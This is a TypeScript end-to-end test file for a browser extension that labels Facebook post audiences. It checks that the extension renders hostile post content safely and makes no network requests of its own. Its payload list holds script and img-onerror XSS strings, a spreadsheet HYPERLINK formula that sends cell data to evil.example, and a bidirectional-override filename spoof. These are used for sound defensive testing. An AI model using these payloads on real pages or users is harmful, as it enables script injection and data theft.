import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveExtra } from '../../scripts/fixture-routes.js';
import { syntheticPostHtml } from '../fixtures/facebook/synthetic-feed.js';
import type { BrowserDriver } from './drivers/driver';
import { DRIVER_NAME, launchDriver } from './drivers/select';
import { badgesOn, openReady } from './scenarios/facebook-feed';

const escape = (text: string) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** An own public post whose text is `text` (as the page would show it: escaped into the DOM). */
function hostilePost(id: string, text: string, label = 'Shared with Public'): string {
  return syntheticPostHtml(0, { prefix: id })
    .replace(/id="[^"]+"/, `id="${id}"`)
    .replace(/Post number 0:[^<]*/, escape(text))
    .replace(/title="[^"]*"/, `title="${escape(label)}"`)
    .replace(/<title>[^<]*<\/title>/, `<title>${escape(label)}</title>`);
}

const PAYLOADS: Record<string, string> = {
  'hostile-script': '<script>window.__pwned = "script"</script>',
  'hostile-img': '"><img src=x onerror="window.__pwned = \'img\'">',
  'hostile-formula': '=HYPERLINK("https://evil.example/?"&A1,"click")',
  'hostile-bidi': 'Safe text \u202Egnp.exe\u202C and \u2066isolate\u2069',
  'hostile-zero-width': 'Pu\u200Bbl\u200Dic\uFEFF',
  'hostile-huge': 'A'.repeat(1024 * 1024),
};

describe(`[${DRIVER_NAME}] hostile page content`, () => {
  let driver: BrowserDriver;
  beforeAll(async () => {
    const posts = Object.entries(PAYLOADS).map(([id, text]) => hostilePost(id, text));
    // A label carrying markup, and one that hides "Friends" behind zero-width characters.
    posts.push(hostilePost('hostile-label-markup', 'label markup', '<img src=x onerror="window.__pwned=1">Public'));
    posts.push(hostilePost('hostile-label-zero-width', 'zero width label', 'Shared with Fri\u200Bends'));
    serveExtra(
      'https://www.facebook.com/?sk=hostile',
      `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<script type="application/json" data-sjs>{"require":[["CurrentUserInitialData",[],{"USER_ID":"100001","NAME":"Alice Martin"},270]]}</script></head>
<body><div role="navigation"><a href="https://www.facebook.com/alice.martin"><span>Alice Martin</span></a></div>
<div role="main"><div role="feed">${posts.join('\n')}</div></div></body></html>`,
    );
    driver = await launchDriver();
  });
  afterAll(async () => {
    await driver?.close();
  });

  it('badges every post, runs nothing, and reads hidden characters as the text they hide', async () => {
    const page = await openReady(driver, 'https://www.facebook.com/?sk=hostile');
    await page.waitFor(() => document.querySelectorAll('[data-glasshouse-badge]').length >= 8, undefined, 15_000);
    const badges = await badgesOn(page);
    for (const id of Object.keys(PAYLOADS)) expect(badges[id], id).toMatchObject({ audience: 'public', count: 1 });
    // Markup in a label is just an unknown word; zero-width characters do not hide "Friends".
    expect(badges['hostile-label-markup']).toMatchObject({ audience: 'unknown', count: 1 });
    expect(badges['hostile-label-zero-width']).toMatchObject({ audience: 'friends', count: 1 });
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
    // The badge's text lives in a closed shadow root: the page sees only the host element.
    expect(await page.evaluate(() => document.querySelector('[data-glasshouse-badge]')!.shadowRoot)).toBeNull();
    await page.close();
  });

  it('shows stored hostile text in the popup as text', async () => {
    await new Promise((done) => setTimeout(done, 1500));
    const popup = await driver.newPage();
    await popup.goto(`${driver.extensionOrigin}/src/ui/popup/index.html`);
    await popup.waitFor(() => document.querySelector('[data-total]') !== null);
    const result = await popup.evaluate(() => ({
      pwned: (window as { __pwned?: unknown }).__pwned ?? null,
      injected: document.querySelectorAll('img[src="x"], script:not([src])').length,
    }));
    expect(result).toEqual({ pwned: null, injected: 0 });
    await popup.close();
  });

  it('made no network request of its own', () => {
    expect(driver.strayRequests()).toEqual([]);
  });
});
